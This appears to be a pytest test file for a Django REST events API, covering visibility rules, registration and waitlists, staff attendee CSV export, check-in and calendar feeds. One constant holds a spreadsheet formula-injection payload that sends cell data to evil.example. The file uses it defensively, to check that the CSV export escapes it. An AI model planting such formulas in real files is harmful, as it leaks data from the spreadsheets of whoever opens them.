import csv
import io

import pytest
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from events import services
from events.models import Registration
from members.models import Sector
from tests.factories import (
    EventFactory,
    OrganisationFactory,
    PlatformFactory,
    StaffFactory,
    member,
)

pytestmark = pytest.mark.django_db


def client_for(user=None) -> APIClient:
    client = APIClient()
    if user is not None:
        client.force_login(user)
    return client


def titles(response) -> list[str]:
    return [e["title"] for e in response.json()["results"]]


def test_event_list_visibility_by_person():
    forum = PlatformFactory(slug="sme-forum")
    council = PlatformFactory(slug="business-council")
    EventFactory(title="Public", platform=forum)
    EventFactory(title="Draft", platform=forum, status="draft")
    EventFactory(title="Forum members", platform=forum, visibility="members")
    EventFactory(title="Council members", platform=council, visibility="members")
    invited = EventFactory(title="Invitation", platform=forum, visibility="invitation")
    forum_member = member(platform=forum)
    guest = member()
    services.registration_create(actor=guest, event=invited, via_invitation=True)
    # Members-only events are listed for everyone (registering needs the membership);
    # invitation-only ones only for people registered for them; drafts only for staff.
    readable = ["Public", "Forum members", "Council members"]
    assert titles(client_for().get("/api/v1/events/")) == readable
    assert titles(client_for(forum_member).get("/api/v1/events/")) == readable
    assert titles(client_for(guest).get("/api/v1/events/")) == [*readable, "Invitation"]
    assert titles(client_for(StaffFactory()).get("/api/v1/events/")) == [
        "Public",
        "Draft",
        "Forum members",
        "Council members",
        "Invitation",
    ]


def test_event_list_shape_and_filters():
    forum = PlatformFactory(slug="sme-forum")
    full = EventFactory(
        title="Full pitch",
        platform=forum,
        capacity=1,
        city="Osaka",
        country="JP",
        kind="pitch_session",
        time_zone="Asia/Tokyo",
    )
    full.sectors.add(*Sector.objects.filter(slug__in=["semiconductors", "robotics"]))
    services.registration_create(actor=member(), event=full)
    EventFactory(
        title="Open webinar",
        platform=PlatformFactory(slug="startup-hub"),
        capacity=None,
        kind="webinar",
        city="",
        venue="",
        online_url="https://meet.example/x",
    )
    client = client_for()
    row = client.get("/api/v1/events/", {"city": "osaka"}).json()["results"][0]
    assert {
        k: row[k]
        for k in (
            "title",
            "platform",
            "capacity",
            "seats_left",
            "waitlist_length",
            "sectors",
            "time_zone",
            "country",
        )
    } == {
        "title": "Full pitch",
        "platform": "sme-forum",
        "capacity": 1,
        "seats_left": 0,
        "waitlist_length": 0,
        "sectors": ["robotics", "semiconductors"],
        "time_zone": "Asia/Tokyo",
        "country": "JP",
    }
    assert titles(client.get("/api/v1/events/", {"has_free_seats": "true"})) == ["Open webinar"]
    assert titles(client.get("/api/v1/events/", {"has_free_seats": "false"})) == ["Full pitch"]
    assert titles(client.get("/api/v1/events/", {"platform": "startup-hub"})) == ["Open webinar"]
    assert titles(client.get("/api/v1/events/", {"sector": "robotics"})) == ["Full pitch"]
    assert titles(client.get("/api/v1/events/", {"kind": "webinar"})) == ["Open webinar"]
    assert titles(client.get("/api/v1/events/", {"country": "jp"})) == ["Full pitch"]
    assert titles(client.get("/api/v1/events/", {"search": "pitch"})) == ["Full pitch"]
    day = full.starts_at.date().isoformat()
    assert (
        len(titles(client.get("/api/v1/events/", {"starts_after": day, "starts_before": day}))) == 2
    )
    assert titles(client.get("/api/v1/events/", {"starts_before": "2000-01-01"})) == []
    assert client.get("/api/v1/events/", {"starts_after": "tomorrow"}).status_code == 400


@pytest.mark.parametrize("count", [1, 50])
def test_event_list_query_count_is_constant(count, django_assert_num_queries):
    platform = PlatformFactory()
    for _ in range(count):
        EventFactory(platform=platform).sectors.add(1, 2)
    client = client_for(member(platform=platform))
    # session, user, page (with seats left and the total count), sectors of the page
    with django_assert_num_queries(4):
        response = client.get("/api/v1/events/")
    assert len(response.json()["results"]) == count


def test_event_list_pages_carry_the_total_count():
    platform = PlatformFactory()
    for _ in range(3):
        EventFactory(platform=platform)
    client = client_for()
    first = client.get("/api/v1/events/", {"page_size": 2}).json()
    assert (first["count"], len(first["results"]), first["previous"]) == (3, 2, None)
    second = client.get(first["next"]).json()
    assert (second["count"], len(second["results"]), second["next"]) == (3, 1, None)
    last = client.get("/api/v1/events/", {"page_size": 2, "page": "last"}).json()
    assert last["results"] == second["results"]
    assert client.get("/api/v1/events/", {"page_size": 2, "page": 3}).status_code == 404
    assert client.get("/api/v1/events/", {"page": "x"}).status_code == 404
    nothing = client.get("/api/v1/events/", {"city": "Nowhere"}).json()
    assert (nothing["count"], nothing["results"]) == (0, [])


def test_event_detail_shows_seats_waitlist_and_my_registration():
    event = EventFactory(capacity=1)
    services.registration_create(actor=member(), event=event)
    me = member()
    mine = services.registration_create(actor=me, event=event)
    data = client_for(me).get(f"/api/v1/events/{event.pk}/").json()
    assert (data["seats_left"], data["waitlist_length"], data["seats_taken"]) == (0, 1, 1)
    assert data["my_registration"] == {
        "id": mine.pk,
        "status": "waitlisted",
        "waitlist_position": 1,
        "organisation": mine.organisation_id,
    }


def test_event_detail_hidden_events_are_404():
    draft = EventFactory(status="draft")
    invitation_only = EventFactory(visibility="invitation")
    client = client_for(member())
    assert client.get(f"/api/v1/events/{draft.pk}/").status_code == 404
    assert client.get(f"/api/v1/events/{invitation_only.pk}/").status_code == 404
    assert client.post(f"/api/v1/events/{draft.pk}/register/").status_code == 404
    assert client.post(f"/api/v1/events/{invitation_only.pk}/register/").status_code == 404


def test_members_only_event_is_readable_by_outsiders_who_cannot_register():
    platform = PlatformFactory(name="Business Council")
    members_only = EventFactory(platform=platform, visibility="members")
    assert client_for().get(f"/api/v1/events/{members_only.pk}/").status_code == 200
    outsider = client_for(member(organisation=OrganisationFactory(name="Outside Ltd")))
    assert outsider.get(f"/api/v1/events/{members_only.pk}/").json()["visibility"] == "members"
    response = outsider.post(f"/api/v1/events/{members_only.pk}/register/")
    assert (response.status_code, response.json()) == (
        403,
        {
            "detail": "This event is for members of Business Council only, and Outside Ltd "
            "is not an approved member."
        },
    )
    assert Registration.objects.count() == 0


def test_register_and_cancel_through_the_api():
    event = EventFactory(capacity=1)
    first, second = member(), member()
    response = client_for(first).post(f"/api/v1/events/{event.pk}/register/")
    assert response.status_code == 201
    assert (response.json()["status"], response.json()["message"]) == (
        "confirmed",
        "You are confirmed.",
    )
    response = client_for(second).post(f"/api/v1/events/{event.pk}/register/")
    assert response.json()["message"] == (
        "The event is full. You are number 1 on the waitlist; we will email you if a seat "
        "becomes free."
    )
    response = client_for(first).post(f"/api/v1/events/{event.pk}/cancel/")
    assert (response.status_code, response.json()["status"]) == (200, "cancelled")
    assert (
        client_for(second).get("/api/v1/registrations/").json()["results"][0]["status"]
        == "confirmed"
    )


def test_register_errors_are_clear_and_change_nothing():
    event = EventFactory()
    person = member()
    client = client_for(person)
    assert client.post(f"/api/v1/events/{event.pk}/register/").status_code == 201
    response = client.post(f"/api/v1/events/{event.pk}/register/")
    assert (response.status_code, response.json()) == (
        400,
        {"non_field_errors": ["You are already registered for this event."]},
    )
    cancelled = EventFactory(status="cancelled")
    response = client.post(f"/api/v1/events/{cancelled.pk}/register/")
    assert (response.status_code, response.json()) == (
        400,
        {"non_field_errors": ["This event has been cancelled."]},
    )
    draft = EventFactory(status="draft")
    staff = StaffFactory()
    staff.affiliations.create(organisation=OrganisationFactory(), role="admin")
    response = client_for(staff).post(f"/api/v1/events/{draft.pk}/register/")
    assert (response.status_code, response.json()) == (
        400,
        {"non_field_errors": ["This event has not been published yet; registration is not open."]},
    )
    response = client_for(member()).post(f"/api/v1/events/{event.pk}/cancel/")
    assert (response.status_code, response.json()) == (
        400,
        {"non_field_errors": ["You are not registered for this event."]},
    )
    assert Registration.objects.count() == 1
    event.refresh_from_db()
    assert event.seats_taken == 1


def test_register_members_only_without_membership_is_403():
    platform = PlatformFactory(name="Startup Hub")
    event = EventFactory(platform=platform, visibility="members")
    person = member(platform=platform)
    second_org = OrganisationFactory(name="Not A Member Ltd")
    person.affiliations.create(organisation=second_org, role="admin")
    response = client_for(person).post(
        f"/api/v1/events/{event.pk}/register/", {"organisation": second_org.pk}
    )
    assert (response.status_code, response.json()) == (
        403,
        {
            "detail": (
                "This event is for members of Startup Hub only, and Not A Member Ltd is not an "
                "approved member."
            )
        },
    )
    assert Registration.objects.count() == 0


def test_anonymous_cannot_register():
    event = EventFactory()
    assert client_for().post(f"/api/v1/events/{event.pk}/register/").status_code in (401, 403)


@pytest.mark.parametrize("count", [1, 20])
def test_my_registrations_query_count_is_constant(count, django_assert_num_queries):
    person = member()
    for _ in range(count):
        services.registration_create(actor=person, event=EventFactory())
    client = client_for(person)
    with django_assert_num_queries(4):
        response = client.get("/api/v1/registrations/")
    assert len(response.json()["results"]) == count


def test_registrations_of_another_organisation_are_invisible():
    event = EventFactory()
    theirs = services.registration_create(actor=member(), event=event)
    me = member()
    client = client_for(me)
    assert client.get("/api/v1/registrations/").json()["results"] == []
    assert client.get(f"/api/v1/registrations/{theirs.pk}/").status_code == 404
    assert client.post(f"/api/v1/registrations/{theirs.pk}/cancel/").status_code == 404
    assert Registration.objects.get(pk=theirs.pk).status == "confirmed"


def test_attendees_staff_only_with_csv_export():
    event = EventFactory(capacity=1, slug="osaka-forum")
    services.registration_create(actor=member(first_name="Asha", last_name="Reddy"), event=event)
    services.registration_create(
        actor=member(username="yuki", first_name="", last_name=""), event=event
    )
    assert client_for(member()).get(f"/api/v1/events/{event.pk}/attendees/").status_code == 403
    staff = client_for(StaffFactory())
    rows = staff.get(f"/api/v1/events/{event.pk}/attendees/").json()
    assert [(r["name"], r["status"], r["waitlist_position"]) for r in rows] == [
        ("Asha Reddy", "confirmed", None),
        ("yuki", "waitlisted", 1),
    ]
    for url in (
        f"/api/v1/events/{event.pk}/attendees/?format=csv",
        f"/api/v1/events/{event.pk}/attendees.csv",
    ):
        response = staff.get(url)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="attendees-osaka-forum.csv"'
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert table[0][:3] == ["registration", "name", "email"]
        assert [(r[1], r[5]) for r in table[1:]] == [
            ("Asha Reddy", "confirmed"),
            ("yuki", "waitlisted"),
        ]


def test_check_in_staff_only():
    event = EventFactory()
    registration = services.registration_create(actor=member(), event=event)
    url = f"/api/v1/events/{event.pk}/check-in/"
    assert (
        client_for(registration.user).post(url, {"registration": registration.pk}).status_code
        == 403
    )
    staff = client_for(StaffFactory())
    response = staff.post(url, {"registration": registration.pk})
    assert (response.status_code, response.json()["status"]) == (200, "attended")
    response = staff.post(url, {"registration": registration.pk})
    assert response.status_code == 400
    assert staff.post(url, {"registration": 999999}).status_code == 404


def test_event_ics_endpoint_is_a_calendar():
    event = EventFactory(slug="tokyo-council", time_zone="Asia/Tokyo")
    response = client_for().get(f"/api/v1/events/{event.pk}/ics/")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    assert b"DTSTART;TZID=Asia/Tokyo:" in response.content
    hidden = EventFactory(status="draft")
    assert client_for().get(f"/api/v1/events/{hidden.pk}/ics/").status_code == 404


def test_calendar_feed_url_get_and_rotate():
    person = member()
    client = client_for(person)
    first = client.get("/api/v1/calendar-feed/").json()["url"]
    assert client.get("/api/v1/calendar-feed/").json()["url"] == first
    rotated = client.post("/api/v1/calendar-feed/").json()["url"]
    assert rotated != first
    path = first.split("127.0.0.1:8000", 1)[1]
    assert client_for().get(path).status_code == 404
    assert client_for().get(rotated.split("127.0.0.1:8000", 1)[1]).status_code == 200
    assert client_for().get("/api/v1/calendar-feed/").status_code in (401, 403)


def test_openapi_schema_of_event_routes_builds():
    from django.urls import include, path
    from drf_spectacular.generators import SchemaGenerator
    from rest_framework.routers import DefaultRouter

    from events.api import views

    router = DefaultRouter()
    router.register("events", views.EventViewSet, basename="event")
    router.register("registrations", views.RegistrationViewSet, basename="registration")
    patterns = [
        path(
            "api/v1/",
            include(
                [
                    path("calendar-feed/", views.CalendarFeedView.as_view()),
                    *router.urls,
                ]
            ),
        )
    ]
    schema = SchemaGenerator(patterns=patterns).get_schema(request=None, public=True)
    assert sorted(p for p in schema["paths"] if "{format}" not in p) == [
        "/api/v1/calendar-feed/",
        "/api/v1/events/",
        "/api/v1/events/{id}/",
        "/api/v1/events/{id}/attendees/",
        "/api/v1/events/{id}/cancel/",
        "/api/v1/events/{id}/check-in/",
        "/api/v1/events/{id}/ics/",
        "/api/v1/events/{id}/register/",
        "/api/v1/registrations/",
        "/api/v1/registrations/{id}/",
        "/api/v1/registrations/{id}/cancel/",
    ]


def test_a_members_only_events_online_link_is_for_members():
    platform = PlatformFactory()
    event = EventFactory(
        platform=platform, visibility="members", online_url="https://meet.example/secret"
    )
    outsider, insider = APIClient(), APIClient()
    outsider.force_authenticate(member())
    insider.force_authenticate(member(platform=platform))
    for path in ("/api/v1/events/", f"/api/v1/events/{event.pk}/"):
        seen = outsider.get(path).json()
        seen = seen["results"][0] if "results" in seen else seen
        assert seen["online_url"] == ""
        shown = insider.get(path).json()
        shown = shown["results"][0] if "results" in shown else shown
        assert shown["online_url"] == "https://meet.example/secret"
    ics = APIClient().get(f"/events/{event.pk}.ics").content.decode()
    assert "meet.example" not in ics
    page = outsider.get(f"/events/{event.pk}/").content.decode()
    assert "meet.example" not in page


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_attendee_csv_keeps_a_formula_name_as_text():
    event = EventFactory(slug="osaka-forum")
    services.registration_create(actor=member(first_name=EVIL, last_name=""), event=event)
    services.registration_create(actor=member(first_name="-2+3", last_name=""), event=event)
    staff = client_for(StaffFactory())
    response = staff.get(f"/api/v1/events/{event.pk}/attendees.csv")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[1] for row in table[1:]] == ["'" + EVIL, "'-2+3"]
    assert [row[0] for row in table[1:]] == [
        str(r.pk) for r in event.registrations.order_by("created_at")
    ]
    # The JSON list is the data as it is.
    assert staff.get(f"/api/v1/events/{event.pk}/attendees/").json()[0]["name"] == EVIL


def test_register_query_count(django_assert_num_queries):
    event = EventFactory(capacity=1)
    EventFactory(capacity=1)  # another event changes nothing
    person = member()
    token = Token.objects.create(user=person)
    client = APIClient(HTTP_AUTHORIZATION=f"Token {token.key}")
    # The token and its user, the event, the organisation, no active registration yet;
    # SET LOCAL lock_timeout, the locked row, the insert, the counter (the savepoint and its
    # release are the test's transaction).
    with django_assert_num_queries(10):
        response = client.post(f"/api/v1/events/{event.pk}/register/", {}, format="json")
    assert (response.status_code, response.json()["status"]) == (201, "confirmed")
